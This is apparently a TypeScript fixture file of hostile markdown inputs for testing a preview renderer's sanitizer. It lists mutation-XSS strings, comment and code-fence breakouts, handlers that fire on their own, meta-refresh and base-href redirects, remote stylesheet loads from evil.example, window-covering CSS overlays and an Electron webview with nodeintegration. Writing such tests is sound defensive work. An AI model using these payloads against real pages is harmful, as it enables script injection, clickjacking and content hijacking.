import { base64, run } from './payload-row'
import type { PayloadRow } from './payload-row'

/**
 * Preview rows that try the page rather than a script: restyling, parser confusion (mutation
 * XSS, comments, code fences), page-level elements and handlers that fire on their own (rows
 * 11–14, 16, 19–21; row N is docs/BAD-INPUTS.md#bi-preview-N).
 */
export const markupRows: PayloadRow[] = [
  {
    row: 11,
    title: '<link rel=stylesheet href=remote>, <style>@import url(remote)</style>',
    cases: [
      {
        id: '11a',
        label: 'remote stylesheet link',
        markdown: '<link rel="stylesheet" href="https://evil.example/11a.css">'
      },
      {
        id: '11b',
        label: 'style @import of a remote sheet',
        markdown: '<style>@import url(https://evil.example/11b.css);</style>'
      },
      {
        id: '11c',
        label: 'style @import from this origin, hiding the page',
        markdown: "<style>@import '/pwned/11c.css'; body { display: none }</style>"
      },
      {
        id: '11d',
        label: 'style attribute loading a remote background',
        markdown: '<div style="background-image:url(https://evil.example/11d.png)">div 11d</div>'
      },
      {
        id: '11e',
        label: 'style attribute with CSS escapes',
        markdown: '<div style="b\\61ckground:u\\72l(https://evil.example/11e.png)">div 11e</div>'
      },
      {
        id: '11f',
        label: 'style @import inside svg',
        markdown: '<svg><style>@import url(https://evil.example/11f.css);</style></svg>'
      },
      {
        id: '11g',
        label: 'style attribute laying a fixed box over the whole window',
        markdown:
          '<div style="position:fixed;inset:0;z-index:99999;background:white">div 11g covers the window</div><p style="color: red; POSITION : FIXED !important; top: 0">p 11g2</p>'
      },
      {
        id: '11h',
        label: 'style attribute placing an absolute box over the toolbar',
        markdown:
          '<p style="position: absolute; top: 0; left: 0; width: 100vw; height: 60px; z-index: 99999; background: white">p 11h</p>'
      },
      {
        id: '11i',
        label: 'position hidden behind a custom property and a comment',
        markdown:
          '<div style="--p: fixed; position: var(--p); inset: 0; z-index: 99999">div 11i</div><div style="position/**/: fixed; inset: 0">div 11i2</div>'
      },
      {
        id: '11j',
        label: 'an open dialog (absolutely placed by the browser)',
        markdown: '<dialog open style="top: 0">dialog 11j</dialog>'
      }
    ]
  },
  {
    row: 12,
    title: '<noscript><p title="</noscript><img src=x onerror=...>"> (mutation XSS)',
    cases: [
      {
        id: '12a',
        label: 'noscript',
        markdown: `<noscript><p title="</noscript><img src=x onerror=${run('12a')}>">`
      },
      {
        id: '12b',
        label: 'noembed',
        markdown: `<noembed><p title="</noembed><img src=x onerror=${run('12b')}>">`
      },
      {
        id: '12c',
        label: 'noframes',
        markdown: `<noframes><p title="</noframes><img src=x onerror=${run('12c')}>">`
      },
      {
        id: '12d',
        label: 'xmp',
        markdown: `<xmp><p title="</xmp><img src=x onerror=${run('12d')}>">`
      }
    ]
  },
  {
    row: 13,
    title: '<svg></p><style>…, the <math><mtext><table><mglyph> family, <!--a--!> comments',
    cases: [
      {
        id: '13a',
        label: 'svg </p><style> namespace confusion',
        markdown: `<svg></p><style><g title="</style><img src onerror=${run('13a')}>">`
      },
      {
        id: '13b',
        label: 'math mtext table mglyph style',
        markdown: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${run('13b')}&gt;">`
      },
      {
        id: '13c',
        label: 'nested forms with math and svg',
        markdown: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run('13c')} src>">`
      },
      {
        id: '13d',
        label: 'math h1 a h6 mglyph',
        markdown: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${run('13d')}>"></style></h1>`
      },
      {
        id: '13e',
        label: '<!--a--!> comment end',
        markdown: `<!--a--!><img src=x onerror="${run('13e')}">-->`
      },
      {
        id: '13f',
        label: '<!--> empty comment',
        markdown: `<!--><img src=x onerror="${run('13f')}">-->`
      }
    ]
  },
  {
    row: 14,
    title: 'fenced code block whose info string is <style/onload=...> or "><img src=x onerror=...>',
    cases: [
      {
        id: '14a',
        label: 'info string <style/onload>',
        markdown: `\`\`\`<style/onload=${run('14a')}>\ncode 14a\n\`\`\``
      },
      {
        id: '14b',
        label: 'info string breaking out of class=""',
        markdown: `\`\`\`"><img src=x onerror=${run('14b')}>\ncode 14b\n\`\`\``
      },
      {
        id: '14c',
        label: 'tilde fence, language then payload',
        markdown: `~~~js"><svg onload=${run('14c')}>\ncode 14c\n~~~`
      }
    ]
  },
  {
    row: 16,
    title: '</pre><style onload=...></style><pre>',
    cases: [
      {
        id: '16a',
        label: 'raw in a paragraph',
        markdown: `</pre><style onload="${run('16a')}"></style><pre>`
      },
      {
        id: '16b',
        label: 'inside a fenced code block',
        markdown: `\`\`\`\n</pre><style onload="${run('16b')}"></style><pre>\n\`\`\``
      },
      {
        id: '16c',
        label: 'inside an indented code block',
        markdown: `    </pre><img src=x onerror="${run('16c')}"><pre>`
      },
      {
        id: '16d',
        label: 'inside inline code',
        markdown: `Inline \`</code></pre><img src=x onerror="${run('16d')}">\` code.`
      }
    ]
  },
  {
    row: 19,
    title: '<meta http-equiv=refresh>, <base href=remote>',
    cases: [
      {
        id: '19a',
        label: 'meta refresh to this origin',
        markdown: '<meta http-equiv="refresh" content="0;url=/pwned/19a">'
      },
      {
        id: '19b',
        label: 'meta refresh to javascript:',
        markdown: `<meta http-equiv="refresh" content="0;url=javascript:${run('19b')}">`
      },
      {
        id: '19c',
        label: 'base href remote, then relative image and link',
        markdown:
          '<base href="https://evil.example/19c/">\n\n![19c](relative-19c.png) [link 19c](relative-19c.html)'
      },
      { id: '19d', label: 'base target=_blank', markdown: '<base target="_blank">' }
    ]
  },
  {
    row: 20,
    title: '<webview nodeintegration allowpopups>',
    cases: [
      {
        id: '20a',
        label: 'webview of a remote page with a preload',
        markdown:
          '<webview src="https://evil.example/20a" nodeintegration allowpopups preload="file:///tmp/20a.js"></webview>'
      },
      {
        id: '20b',
        label: 'upper-case webview of a scripted data: page',
        markdown: `<WEBVIEW src="data:text/html;base64,${base64(`<script>${run('20b')}</script>`)}" nodeintegration allowpopups></WEBVIEW>`
      }
    ]
  },
  {
    row: 21,
    title: 'handlers that fire without a click',
    cases: [
      {
        id: '21a',
        label: 'details open ontoggle',
        markdown: `<details open ontoggle="${run('21a')}"><summary>details 21a</summary>body</details>`
      },
      {
        id: '21b',
        label: 'video source onerror',
        markdown: `<video><source onerror="${run('21b')}"></video>`
      },
      {
        id: '21c',
        label: 'marquee onstart',
        markdown: `<marquee onstart="${run('21c')}">marquee 21c</marquee>`
      },
      {
        id: '21d',
        label: 'audio onerror',
        markdown: `<audio src=x onerror="${run('21d')}"></audio>`
      },
      {
        id: '21e',
        label: 'animation start handler',
        markdown: `<div style="animation:spin 1s" onanimationstart="${run('21e')}">div 21e</div>`
      },
      {
        id: '21f',
        label: 'svg set onbegin',
        markdown: `<svg><set onbegin="${run('21f')}" attributeName="x" to="1"></set></svg>`
      },
      {
        id: '21g',
        label: 'body onload and object onerror',
        markdown: `<body onload="${run('21g')}"><object data="x" onerror="${run('21g-object')}"></object>`
      }
    ]
  }
]
